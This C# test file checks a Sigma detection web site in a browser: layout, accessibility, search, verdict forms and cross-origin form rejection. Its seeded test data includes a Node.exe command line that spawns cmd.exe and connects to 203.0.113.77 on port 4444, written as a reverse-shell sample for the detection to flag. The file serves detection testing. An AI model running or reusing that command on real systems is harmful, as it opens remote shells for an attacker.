using System.Globalization;
using System.Text.Json;
using Azure.Data.Tables;
using Deque.AxeCore.Commons;
using Deque.AxeCore.Playwright;
using Microsoft.Playwright;
using SigmaFunctions.LocalHost.Azurite;
using SigmaFunctions.LocalHost.Live;
using SigmaFunctions.LocalHost.Processes;
using SigmaFunctions.LocalHost.Trigger;
using SigmaFunctions.LocalHost.Worker;
using SigmaFunctions.Pages.Model;
using SigmaFunctions.Storage.Alerts;
using SigmaFunctions.Storage.Detections;
using SigmaFunctions.Storage.Model;

namespace SigmaFunctions.LocalHost.Tests.Live;

/// <summary>
/// The list of detections and the page of an event in Chromium, over Azurite; skipped where there is no Chromium. <c>DETECTIONS=100000</c> makes the table
/// as large as that; <c>SCREENSHOTS=DIR</c> keeps what was seen.
/// </summary>
public sealed class DetectionPagesInBrowserTests
{
    private const string NodeRule = "6640f31c-01ad-49b5-beb5-83498a5cd8bd";
    private const string Command = "\"C:\\Program Files\\nodejs\\node.exe\" -e \"const cp=require('child_process');cp.exec('cmd.exe');net.socket().connect(4444,'203.0.113.77')\"";

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_detection_is_found_read_and_decided_at_all_widths_in_light_and_dark()
    {
        Assert.SkipWhen(LiveViewInBrowserTests.Executable is null, "There is no Chromium; set CHROMIUM to its path.");
        int count = int.Parse(Environment.GetEnvironmentVariable("DETECTIONS") ?? "400", CultureInfo.InvariantCulture);
        await using AzuriteProcess azurite = await AzuriteProcess.StartAsync(Token);
        DetectionId id = await FillAsync(azurite.ConnectionString, count);
        await using LiveSite site = await LiveSite.StartAsync(0, new RuleSettings([LocalPaths.AppRules]), TimeProvider.System, Token);
        using var detections = new DetectionSite(azurite.ConnectionString, () => site.Rules, [], TimeProvider.System);
        site.Attach(new LiveRun(() => new RunCounters(0, 0, []), (_, _) => Task.FromResult<Detection?>(null), "", (_, _) => Task.FromResult<HttpReply?>(null)) { Detections = detections });
        await site.BuildCatalogueAsync(TimeSpan.Zero, Token);
        using var client = new HttpClient();
        while ((await client.GetAsync(site.CatalogAddress, Token)).StatusCode != System.Net.HttpStatusCode.OK)
        {
            await Task.Delay(100, Token);
        }

        using IPlaywright playwright = await Playwright.CreateAsync();
        await using IBrowser browser = await playwright.Chromium.LaunchAsync(
            new BrowserTypeLaunchOptions { ExecutablePath = LiveViewInBrowserTests.Executable, Args = ["--no-sandbox", "--disable-gpu"] });
        var list = new Uri(site.Address, "detections");
        var page = new Uri(site.Address, PageAddress.Of(id));
        await CheckSizeAsync(client, list);
        await CheckSizeAsync(client, page);
        foreach (ColorScheme scheme in new[] { ColorScheme.Light, ColorScheme.Dark })
        {
            foreach (int width in new[] { 360, 768, 1440 })
            {
                await LookAsync(browser, list, width, scheme, "list");
                await LookAsync(browser, page, width, scheme, "event");
            }
        }

        IPage tab = await browser.NewPageAsync();
        await tab.GotoAsync(list.AbsoluteUri);
        await Assertions.Expect(tab.Locator(".status").First).ToContainTextAsync(string.Create(CultureInfo.InvariantCulture, $"with {count:N0} detections"));
        await tab.FillAsync("main input[type=search]", "nodejs child_process");
        await tab.PressAsync("main input[type=search]", "Enter");
        await Assertions.Expect(tab.Locator(".status").First).ToContainTextAsync("1 event with 1 detection");
        await Assertions.Expect(tab.Locator("ol.events mark").First).ToHaveTextAsync(" -e ");
        await tab.ClickAsync("ol.events .head a");
        await Assertions.Expect(tab.Locator("h1")).ToHaveTextAsync("Potential Arbitrary Code Execution Via Node.EXE");
        await tab.ClickAsync("label:has-text('False positive:')");
        await tab.FillAsync("textarea", "A developer's own script");
        await tab.ClickAsync("button:has-text('Save the verdict')");
        await Assertions.Expect(tab.Locator(".given")).ToContainTextAsync("A developer's own script");
        // Past the page as it was before the verdict.
        await tab.GoBackAsync();
        await tab.GoBackAsync();
        await Assertions.Expect(tab.Locator("main input[type=search]")).ToHaveValueAsync("nodejs child_process");
        await tab.GotoAsync(new Uri(site.Address, "detections?verdict=falsePositive").AbsoluteUri);
        await Assertions.Expect(tab.Locator(".status").First).ToContainTextAsync("1 event with 2 detections");
    }

    [Theory]
    [InlineData("same-origin", null, System.Net.HttpStatusCode.NotFound)]
    [InlineData("cross-site", null, System.Net.HttpStatusCode.Forbidden)]
    [InlineData("same-site", null, System.Net.HttpStatusCode.Forbidden)]
    [InlineData("none", null, System.Net.HttpStatusCode.MethodNotAllowed)]
    [InlineData(null, "https://elsewhere.example", System.Net.HttpStatusCode.MethodNotAllowed)]
    [InlineData(null, null, System.Net.HttpStatusCode.MethodNotAllowed)]
    public async Task Only_these_pages_own_forms_are_taken(string? fetchSite, string? origin, System.Net.HttpStatusCode status)
    {
        await using AzuriteProcess azurite = await AzuriteProcess.StartAsync(Token);
        await new TableClient(azurite.ConnectionString, DetectionTable.DefaultName).CreateAsync(Token);
        await using LiveSite site = await LiveSite.StartAsync(0, new RuleSettings([LocalPaths.AppRules]), TimeProvider.System, Token);
        using var detections = new DetectionSite(azurite.ConnectionString, () => null, [], TimeProvider.System);
        site.Attach(new LiveRun(() => new RunCounters(0, 0, []), (_, _) => Task.FromResult<Detection?>(null), "", (_, _) => Task.FromResult<HttpReply?>(null)) { Detections = detections });
        using var client = new HttpClient();
        using var request = new HttpRequestMessage(HttpMethod.Post, new Uri(site.Address, "d/202612010330000000000-a0000000000000000000000000000000"))
        {
            Content = new FormUrlEncodedContent([KeyValuePair.Create("verdict", "benign")]),
        };
        if (fetchSite is not null)
        {
            request.Headers.Add("Sec-Fetch-Site", fetchSite);
        }

        if (origin is not null)
        {
            request.Headers.Add("Origin", origin);
        }

        using HttpResponseMessage response = await client.SendAsync(request, Token);

        Assert.Equal(status, response.StatusCode);
    }

    private static async Task CheckSizeAsync(HttpClient client, Uri address)
    {
        byte[] content = await client.GetByteArrayAsync(address, Token);
        TestContext.Current.SendDiagnosticMessage($"{address.AbsolutePath}: {content.Length} bytes");
        Assert.InRange(content.Length, 1, 100_000);
    }

    private static async Task LookAsync(IBrowser browser, Uri address, int width, ColorScheme scheme, string name)
    {
        IPage page = await browser.NewPageAsync(new BrowserNewPageOptions { ViewportSize = new ViewportSize { Width = width, Height = 900 }, ColorScheme = scheme });
        var trouble = new List<string>();
        page.Console += (_, message) => trouble.Add($"{message.Type}: {message.Text}");
        page.PageError += (_, error) => trouble.Add(error);
        await page.GotoAsync(address.AbsoluteUri);
        Assert.Equal((name, width, 0), (name, width, await page.EvaluateAsync<int>("() => document.documentElement.scrollWidth - document.documentElement.clientWidth")));
        Assert.Equal("", string.Join('\n', trouble));
        if (Environment.GetEnvironmentVariable("SCREENSHOTS") is { Length: > 0 } folder)
        {
            await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(folder, $"{name}-{width}-{scheme}.png"), FullPage = true });
        }

        AxeResult axe = await page.RunAxe();
        Assert.Equal("", string.Join('\n', axe.Violations.Where(one => one.Impact is "serious" or "critical").Select(one => $"{name} {width} {scheme} {one.Id}: {string.Join(' ', one.Nodes.Take(3).Select(node => node.Html))}")));
        await page.CloseAsync();
    }

    private static async Task<DetectionId> FillAsync(string connection, int count)
    {
        var rows = new TableClient(connection, DetectionTable.DefaultName);
        var index = new TableClient(connection, DetectionTable.DefaultName + DetectionIndex.NameSuffix);
        await rows.CreateAsync(Token);
        await index.CreateAsync(Token);
        await new TableClient(connection, DetectionTable.DefaultName + AlertWindows.NameSuffix).CreateAsync(Token);
        var table = new DetectionTable(rows, index: new DetectionIndex(index));
        DateTimeOffset now = DateTimeOffset.UtcNow;
        string[] levels = ["low", "medium", "high", "critical"];
        Detection Make(int i, string rule, string title, string command, string host) => new()
        {
            Identity = new HubEventIdentity("ns", "events", (i % 8).ToString(CultureInfo.InvariantCulture), now.AddSeconds(-i * 80_000.0 / count), i, 0),
            RuleId = rule,
            RuleTitle = title,
            RuleAuthor = "An author",
            Level = rule == NodeRule ? "high" : levels[i % 4],
            Tags = ["attack.execution", "attack.t1059.001"],
            EventTime = now.AddSeconds(-i * 80_000.0 / count),
            Host = host,
            User = $"CONTOSO\\user{i % 40}",
            Fields = [new DetectedField("CommandLine", command), new DetectedField("Image", @"C:\Program Files\nodejs\node.exe")],
            Facts = new EventFacts { Process = new ProcessFacts(@"C:\Windows\System32\cmd.exe", command, "4711"), Parent = new ProcessFacts(@"C:\Windows\explorer.exe", "explorer.exe", "812") },
            Original = JsonSerializer.Serialize(new { category = "process_creation", product = "windows", Image = @"C:\Program Files\nodejs\node.exe", CommandLine = command, Computer = host }),
        };

        Detection wanted = Make(count / 2, NodeRule, "Potential Arbitrary Code Execution Via Node.EXE", Command, "dev-07.contoso.example");
        foreach (int[] chunk in Enumerable.Range(0, count - 1).Chunk(1_000))
        {
            await table.AddAsync([.. chunk.Select(i => Make(i, $"00000000-0000-4000-8000-{i % 60:x12}", $"A rule whose title is as long as titles are {i % 60}", $"powershell.exe -NoProfile -File C:\\scripts\\job-{i}.ps1 -Verbose", $"ws-{i % 300:D3}.contoso.example"))], Token);
        }

        await table.AddAsync([wanted], Token);
        return wanted.Id;
    }
}
